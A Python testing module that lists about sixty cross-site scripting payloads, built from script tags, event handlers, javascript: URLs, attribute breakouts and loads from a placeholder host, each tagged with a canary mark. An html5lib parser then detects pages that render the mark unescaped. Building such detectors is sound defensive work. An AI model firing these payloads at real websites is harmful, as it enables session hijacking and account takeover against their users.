"""Texts that would do something if a page showed them unescaped, and a parser that tells when one would."""

from typing import Any

import html5lib

MARK = "xss7q"

_TEMPLATES = (
    "<script>alert('{m}')</script>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script src=//{m}.example></script>",
    "<script>/*{m}*/alert(1)//",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script>",
    "]]><script>alert('{m}')</script>",
    "'><script>alert('{m}')</script>",
    '"><script>alert("{m}")</script>',
    "<img src=x onerror=alert('{m}')>",
    "<img src=x oNeRrOr=alert('{m}')>",
    "<img/src='x'/onerror=alert('{m}')>",
    "<img src='x' onerror='alert(\"{m}\")'>",
    '"><img src=x onerror=alert("{m}")>',
    "'><img src=x onerror=alert('{m}')>",
    "</textarea><img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg/onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert('{m}')><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert('{m}')>x</mi></math>",
    "<body onload=alert('{m}')>x",
    "<iframe src=javascript:alert('{m}')></iframe>",
    "<iframe srcdoc='<script>alert(\"{m}\")</script>'></iframe>",
    "<object data=javascript:alert('{m}')></object>",
    "<embed src=javascript:alert('{m}')>",
    "<a href=javascript:alert('{m}')>x</a>",
    "<a href=JaVaScRiPt:alert('{m}')>x</a>",
    "<a href='java&#x09;script:alert(\"{m}\")'>x</a>",
    "<a href='data:text/html,<script>{m}</script>'>x</a>",
    "<a onmouseover=alert('{m}')>x</a>",
    "<form action=javascript:alert('{m}')><button>x</button></form>",
    "<button formaction=javascript:alert('{m}')>x</button>",
    "<input onfocus=alert('{m}') autofocus>",
    "<select onfocus=alert('{m}') autofocus></select>",
    "<textarea onfocus=alert('{m}') autofocus></textarea>",
    "<details open ontoggle=alert('{m}')>x</details>",
    "<video><source onerror=alert('{m}')></video>",
    "<audio src=x onerror=alert('{m}')></audio>",
    "<marquee onstart=alert('{m}')>x</marquee>",
    "<style>@import '//{m}.example';</style>",
    "<link rel=stylesheet href=//{m}.example>",
    "<base href=//{m}.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(\"{m}\")'>",
    "<div style=background:url(javascript:alert('{m}'))>x</div>",
    "<p onclick=alert('{m}')>x</p>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onmouseover='alert(\"{m}\")' x='",
    "` onmouseover=alert('{m}') x=`",
    "javascript:alert('{m}')",
    "{{{{ '{m}'|safe }}}}{{% debug %}}",
    "${{alert('{m}')}}",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
)
PAYLOADS = tuple(template.format(m=MARK) for template in _TEMPLATES)

_XHTML = "{http://www.w3.org/1999/xhtml}"
_BY_ELEMENT = {"script", "base", "link", "iframe", "object", "embed"}


def dangerous(html: str) -> list[str]:
    """Elements and attributes of a page in which the mark of our payloads would be carried out."""
    document = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=True)
    return [found for element in document.iter() if (found := _found(element))]


def _found(element: Any) -> str:
    if not isinstance(element.tag, str):
        return ""
    name = element.tag.rpartition("}")[2].lower()
    attributes = {str(key).lower(): str(text) for key, text in element.attrib.items()}
    if name == "meta" and attributes.get("http-equiv", "").lower() != "refresh":
        return ""  # words about the page
    for key, text in attributes.items():
        if MARK in text and _acts(name, key.rpartition("}")[2], text):
            return f"{name} {key}={text[:60]}"
    if name in ("script", "style") and MARK in "".join(element.itertext()) and not _is_data(attributes):
        return f"{name}: {''.join(element.itertext())[:60]}"
    return ""


def _acts(name: str, key: str, text: str) -> bool:
    """Whether an attribute with our mark does something: handlers, styles, addresses of what is run or loaded."""
    address = "".join(char for char in text if char > " ").lower()
    if key.startswith("on") or "/on" in key or key in ("style", "srcdoc"):
        return True
    if name == "meta":
        return key == "content" and "url=" in address and "javascript:" in address
    if key not in ("href", "src", "action", "formaction", "data"):
        return "onerror" in address and key == "src" and "=" in address
    if address.startswith(("javascript:", "data:")):
        return True
    return name in _BY_ELEMENT and address.startswith("//")


def _is_data(attributes: dict[str, str]) -> bool:
    """Whether a script element only holds data, which the browser does not run."""
    return "json" in attributes.get("type", "")
